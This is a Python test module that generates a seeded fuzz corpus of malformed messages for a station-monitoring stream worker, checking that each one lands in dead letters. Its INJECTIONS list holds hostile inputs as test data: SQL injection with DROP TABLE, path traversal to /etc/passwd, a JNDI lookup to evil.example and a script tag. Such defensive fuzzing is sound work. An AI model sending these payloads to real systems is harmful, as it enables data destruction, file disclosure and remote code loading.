"""A deterministic corpus of bad input for every input topic: what the fuzz tests send, each case
with the words its dead letter's reason must hold.

Every case is built from a valid message of its own station id and broken in one way (or its
key is), so a test can also check that nothing of it reached a table. The same seed gives the
same corpus; a unit test runs it through ``streams.decode`` so that the integration test's
expectations are known to hold before a broker is started.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from schemas.topics import HEARTBEAT, INPUT_TOPICS, OCCUPANCY, REGISTRY, STATUS
from tests import factories

MAX_BYTES = 65_536  # the worker's default STATIONWATCH_MAX_MESSAGE_BYTES
SEED = 20_261_202

# The fields of each topic's message, by kind (a dotted path into the JSON object).
FIELDS: dict[str, dict[str, str]] = {
    HEARTBEAT: {
        "station_id": "id",
        "sent_at": "time",
        "device_id": "text",
        "seq": "bigint",
        "uptime_s": "bigint",
        "battery_pct": "pct",
        "on_mains": "bool",
        "temperature_c": "temp",
        "firmware": "text",
    },
    OCCUPANCY: {
        "station_id": "id",
        "observed_at": "time",
        "occupants": "count",
        "capacity": "count",
        "source": "enum",
    },
    STATUS: {"station_id": "id", "at": "time", "state": "enum", "reason": "enum", "actor": "enum"},
    REGISTRY: {
        "station_id": "id",
        "name": "name",
        "district": "text",
        "street": "text",
        "category": "enum",
        "host": "enum",
        "location.lat": "lat",
        "location.lon": "lon",
        "services.0": "enum",
        "capacity": "count",
        "opening_hours.weekly.mon.0.0": "clock",
        "opening_hours.always_open": "bool",
        "heartbeat_interval_s": "interval",
        "contact_phone": "phone",
        "lifecycle": "enum",
        "updated_at": "time",
    },
}
REQUIRED: dict[str, tuple[str, ...]] = {
    HEARTBEAT: ("station_id", "sent_at"),
    OCCUPANCY: ("station_id", "observed_at", "occupants"),
    STATUS: ("station_id", "at", "state"),
    REGISTRY: ("station_id", "name", "location", "opening_hours", "updated_at"),
}
FREE_TEXT = frozenset({"text", "name", "phone"})

WRONG_TYPES: dict[str, list[Any]] = {
    "id": [1, 1.5, True, [], {}, None],
    "text": [1, 1.5, True, ["x"], {"a": "b"}],
    "name": [1, True, [], {}, None],
    "phone": [10_000_000, True, []],
    "enum": [1, True, [], {}],
    "clock": [800, True, None, []],
    "time": [1_796_000_000, True, [], {}, "2026-11-30", "2026-11-30T08:00:00", "", "yesterday"],
    "bigint": ["1", 1.5, 1.0, True, [], {}],
    "count": ["3", 3.5, 3.0, True, [], {}],
    "interval": ["30", 30.5, True, []],
    "pct": ["97.5", True, [], {}],
    "temp": ["21.5", False, []],
    "lat": ["40.08", True, None],
    "lon": ["116.58", False, {}],
    "bool": [1, 0, "true", [], {}],
}
ABSURD: dict[str, list[Any]] = {
    "bigint": [-1, 2**63, 2**64, 10**30, -(2**63)],
    "count": [-1, 100_001, 2**31, 2**63, 10**18],
    "interval": [0, -30, 86_401, 2**31],
    "pct": [-0.1, 100.5, 1e308, -1e308],
    "temp": [-273.15, 120.1, 1e10],
    "lat": [90.0001, -91, 1e308],
    "lon": [180.5, -181, -1e308],
    "name": ["", "x" * 201],
    "text": ["x" * 65],
    "phone": ["1" * 33],
    "clock": ["25:00", "24:01", "8:00", "08:60", "24:00"],
    "enum": ["unknown", "OPEN", "Sensor", "", " open", "open\n"],
    "id": ["sy-0001", "SY0001", "SY-", "A-1", "ABCDE-1"],
}
UNKNOWN_ENUMS = ["camera", "ajar", "holiday", "robot", "luxury", "bank", "retired", "spa", "opened"]
INJECTIONS = [
    "SY-0001'; DROP TABLE stationwatch.heartbeats; --",
    "SY-0001' OR '1'='1",
    "../../../etc/passwd",
    "SY-0001/../../x",
    "..\\..\\windows\\system32",
    "SY\u20100001",  # Unicode hyphen
    "\uff33\uff39-\uff10\uff10\uff10\uff11",  # fullwidth
    "SY-\u0660\u0660\u0661",  # Arabic-Indic digits
    "\u0405Y-0001",  # Cyrillic DZE looks like S
    "SY-0001\u200b",  # zero-width space
    "\u202eSY-0001",  # right-to-left override
    "SY-0001\n",
    "%53Y-0001",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "SY-0001\x00",
]
BAD_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\xc0\x80",
    b"\xed\xa0\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xe6\x97",
]
SURROGATES = ["\ud800", "\udfff", "\udc00\ud800", "\ud83d"]


@dataclass(frozen=True, slots=True)
class Case:
    topic: str
    key: bytes | None
    value: bytes | None
    kind: str  # what is wrong, for counting
    expect: tuple[str, ...]  # the dead letter's reason holds one of these
    station_id: str  # the station id the case was built on (never to be found in a table)


def good_message(topic: str, station_id: str, now: datetime) -> dict[str, Any]:
    """A valid message of ``topic``: the fuzz cases break a copy of it."""
    if topic == HEARTBEAT:
        return factories.heartbeat(station_id, now, 1)
    if topic == OCCUPANCY:
        return factories.occupancy(station_id, now, 3)
    if topic == STATUS:
        return factories.status(station_id, now, "open")
    hours = {"always_open": False, "weekly": {"mon": [["08:00", "20:00"]]}, "holidays_open": True}
    return factories.profile(station_id, opening_hours=hours)


def set_path(doc: dict[str, Any], path: str, value: Any) -> None:
    *parents, last = path.split(".")
    node: Any = doc
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value


def get_path(doc: dict[str, Any], path: str) -> Any:
    node: Any = doc
    for part in path.split("."):
        node = node[int(part)] if isinstance(node, list) else node[part]
    return node


def prefixes(path: str) -> tuple[str, ...]:
    """``a.b.c`` → ``a.b.c``, ``a.b``, ``a``: pydantic names the deepest place it can."""
    parts = path.split(".")
    return tuple(".".join(parts[:n]) for n in range(len(parts), 0, -1))


def encode(doc: Any, rng: random.Random) -> bytes:
    """JSON as a producer might write it: escaped or raw UTF-8, NaN literals kept."""
    text = json.dumps(doc, ensure_ascii=rng.random() < 0.5, allow_nan=True)
    return text.encode("utf-8", "surrogatepass")


Broken = tuple[bytes | None, bytes | None, tuple[str, ...]]  # key, value, expected words
Breaker = Callable[[random.Random, str, str, datetime], Broken]


def _field(rng: random.Random, topic: str, kinds: frozenset[str] | None = None) -> tuple[str, str]:
    fields = [(p, k) for p, k in FIELDS[topic].items() if kinds is None or k in kinds]
    return rng.choice(fields)


def _nul(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    path, kind = _field(rng, topic, frozenset({"id", "text", "name", "phone", "enum", "clock"}))
    original = str(get_path(doc, path))
    at = rng.randrange(len(original) + 1)
    set_path(doc, path, original[:at] + "\x00" + original[at:])
    expect = ("NUL",) if kind in FREE_TEXT else prefixes(path)
    return sid.encode(), encode(doc, rng), expect


def _surrogate(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    path, _ = _field(rng, topic, frozenset({"id", "text", "name", "phone", "enum", "clock"}))
    original = str(get_path(doc, path))
    at = rng.randrange(len(original) + 1)
    set_path(doc, path, original[:at] + rng.choice(SURROGATES) + original[at:])
    # escaped (\ud800): a lone surrogate; raw (ED A0 80): not UTF-8 at all
    return sid.encode(), encode(doc, rng), ("surrogate", "Invalid JSON")


def _bad_utf8(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    raw = encode(good_message(topic, sid, now), rng)
    # inside a string value: right after the opening quote of the station id's value
    at = raw.index(sid.encode())
    return sid.encode(), raw[:at] + rng.choice(BAD_UTF8) + raw[at:], ("Invalid JSON",)


def _deep(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    depth = rng.randrange(256, 5_000)
    opener, closer = rng.choice([(b"[", b"]"), (b'{"a":', b"}")])
    nested = opener * depth + b"1" * (opener == b'{"a":') + closer * depth
    raw = encode(good_message(topic, sid, now), rng)
    field = rng.choice([b"extra", rng.choice(list(FIELDS[topic])).split(".")[0].encode()])
    return sid.encode(), raw[:-1] + b', "' + field + b'": ' + nested + b"}", ("recursion limit",)


def _huge(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    doc["padding"] = "x" * rng.randrange(MAX_BYTES, MAX_BYTES + 4_096)
    return sid.encode(), encode(doc, rng), ("bytes, more than",)


def _truncated(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    raw = encode(good_message(topic, sid, now), rng)
    return sid.encode(), raw[: rng.randrange(len(raw) - 1)], ("Invalid JSON",)


def _not_an_object(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    value = rng.choice([b"[]", b"null", b'"' + sid.encode() + b'"', b"42", b"true", b"[{}]"])
    return sid.encode(), value, ("should be an object",)


def _wrong_type(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    path, kind = _field(rng, topic)
    choices = [v for v in WRONG_TYPES[kind] if v is not None or path in REQUIRED[topic]]
    set_path(doc, path, rng.choice(choices))
    return sid.encode(), encode(doc, rng), prefixes(path)


def _not_finite(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    numbers = frozenset({"pct", "temp", "lat", "lon", "count", "bigint", "interval"})
    path, _ = _field(rng, topic, numbers) if topic != STATUS else ("at", "time")
    set_path(doc, path, rng.choice([float("nan"), float("inf"), float("-inf")]))
    return sid.encode(), encode(doc, rng), prefixes(path)


def _bad_time(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    path = next(p for p, k in FIELDS[topic].items() if k == "time")
    choices: list[tuple[str, tuple[str, ...]]] = [
        ("0001-01-01T00:00:00+08:00", ("2000-01-01",)),
        ("0001-01-01T12:00:00-08:00", ("2000-01-01",)),
        ("9999-12-31T23:59:59-08:00", ("2000-01-01",)),
        ("9999-12-31T23:59:59.999999Z", ("2000-01-01",)),
        ("1970-01-01T00:00:00Z", ("2000-01-01",)),
        ("2200-01-01T00:00:00+14:00", ("2000-01-01",)),
        ("2026-12-31T23:59:60Z", (path,)),
        ("2026-02-30T08:00:00+08:00", (path,)),
        ("2026-11-30T08:00:00+24:00", (path,)),
        ("+2026-11-30T08:00:00Z", (path,)),
        ("2026-11-30T25:00:00Z", (path,)),
    ]
    ahead = timedelta(seconds=rng.randrange(3_600, 40 * 365 * 86_400))
    choices.append(((now + ahead).isoformat(), ("in the future", "2000-01-01")))
    if topic != REGISTRY:  # a registry record may be old
        behind = timedelta(days=rng.randrange(31, 9_000), seconds=rng.randrange(86_400))
        choices.append(((now - behind).isoformat(), ("in the past", "2000-01-01")))
    value, expect = rng.choice(choices)
    set_path(doc, path, value)
    return sid.encode(), encode(doc, rng), expect


def _absurd(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    path, kind = _field(rng, topic, frozenset(ABSURD))
    set_path(doc, path, rng.choice(ABSURD[kind]))
    if rng.random() < 0.1:  # digits beyond any integer type
        raw = encode(doc, rng)
        return sid.encode(), raw[:-1] + b', "n": ' + b"9" * 5_000 + b"}", ("Invalid JSON",)
    return sid.encode(), encode(doc, rng), prefixes(path)


def _unknown_enum(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    if topic == HEARTBEAT:  # no enum: a weekday-like key would be ignored, so break a bool
        doc["on_mains"] = rng.choice(["yes", "on"])
        return sid.encode(), encode(doc, rng), ("on_mains",)
    if topic == REGISTRY and rng.random() < 0.3:
        doc["opening_hours"]["weekly"][rng.choice(["Mon", "monday", "mon2", "周一", ""])] = []
        return sid.encode(), encode(doc, rng), ("opening_hours.weekly",)
    path, _ = _field(rng, topic, frozenset({"enum"}))
    set_path(doc, path, rng.choice(UNKNOWN_ENUMS))
    return sid.encode(), encode(doc, rng), prefixes(path)


def _injected_id(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    evil = rng.choice(INJECTIONS)
    if rng.random() < 0.5:  # the id itself: key and station_id alike
        doc["station_id"] = evil
        return evil.encode("utf-8", "surrogatepass"), encode(doc, rng), ("station_id",)
    return evil.encode(), encode(doc, rng), ("differs from station_id",)  # only the key


def _bad_key(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    raw = encode(good_message(topic, sid, now), rng)
    key, expect = rng.choice(
        [
            (None, ("key: missing",)),
            (b"", ("key: missing",)),
            (b"\xff" + sid.encode(), ("key: not valid UTF-8",)),
            (sid.encode() + b"\x00", ("differs from station_id",)),
            (sid.lower().encode(), ("differs from station_id",)),
            (sid.encode() + b" ", ("differs from station_id",)),
            (b"ZZ-" + sid.encode()[3:], ("differs from station_id",)),
        ]
    )
    return key, raw, expect


def _duplicate_key(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    raw = encode(good_message(topic, sid, now), rng)
    other = "ZZ-" + sid[3:]
    return (
        sid.encode(),
        raw[:-1] + b', "station_id": "' + other.encode() + b'"}',
        ("differs from station_id",),
    )


def _missing(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    doc = good_message(topic, sid, now)
    field = rng.choice(REQUIRED[topic])
    del doc[field]
    return sid.encode(), encode(doc, rng), (field,)


def _null(rng: random.Random, topic: str, sid: str, now: datetime) -> Broken:
    if topic != REGISTRY:
        return sid.encode(), None, ("value: missing",)
    key = rng.choice([sid.lower(), sid + "\n", "../" + sid, sid + "\x00"]).encode()
    return key, None, ("is not a station id",)  # a tombstone for no station


BREAKERS: dict[str, tuple[Breaker, float]] = {  # kind → (how, weight)
    "nul": (_nul, 3),
    "surrogate": (_surrogate, 2),
    "bad_utf8": (_bad_utf8, 1),
    "deep": (_deep, 1),
    "huge": (_huge, 0.3),
    "truncated": (_truncated, 1),
    "not_an_object": (_not_an_object, 0.5),
    "wrong_type": (_wrong_type, 2),
    "not_finite": (_not_finite, 1),
    "bad_time": (_bad_time, 2),
    "absurd": (_absurd, 2),
    "unknown_enum": (_unknown_enum, 1),
    "injected_id": (_injected_id, 1.5),
    "bad_key": (_bad_key, 1),
    "duplicate_key": (_duplicate_key, 0.5),
    "missing": (_missing, 1),
    "null": (_null, 0.5),
}


def corpus(
    station_id: Callable[[int], str], now: datetime, *, seed: int, per_topic: int
) -> list[Case]:
    """``per_topic`` bad cases on every input topic, each on its own ``station_id(n)``."""
    rng = random.Random(seed)
    kinds = list(BREAKERS)
    weights = [BREAKERS[k][1] for k in kinds]
    cases: list[Case] = []
    for topic in INPUT_TOPICS:
        for _ in range(per_topic):
            sid = station_id(len(cases))
            kind = rng.choices(kinds, weights)[0]
            key, value, expect = BREAKERS[kind][0](rng, topic, sid, now)
            cases.append(Case(topic, key, value, kind, expect, sid))
    rng.shuffle(cases)
    return cases
